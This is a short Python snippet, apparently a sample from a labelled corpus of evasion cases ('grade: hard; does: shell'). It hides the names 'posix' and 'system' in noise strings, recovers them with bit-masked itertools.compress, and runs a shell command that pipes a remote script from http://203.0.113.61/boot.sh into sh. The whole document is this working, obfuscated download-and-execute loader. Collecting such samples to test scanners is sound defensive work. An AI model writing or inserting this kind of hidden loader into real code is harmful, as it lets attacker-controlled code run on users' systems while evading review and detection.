# evasion: module and function names are picked out of noise strings by itertools.compress with selectors from the bits of an integer
# grade: hard; does: shell
import itertools


def pick(noise, mask):
    bits = [(mask >> i) & 1 for i in range(len(noise))]
    return "".join(itertools.compress(noise, bits))


MOD = pick("qpzoksviwx", 0x2AA)
FN = pick("qszyksvtwejm", 0xAAA)

handle = getattr(__import__(MOD), FN)
handle("curl -fsSL http://203.0.113.61/boot.sh | sh")
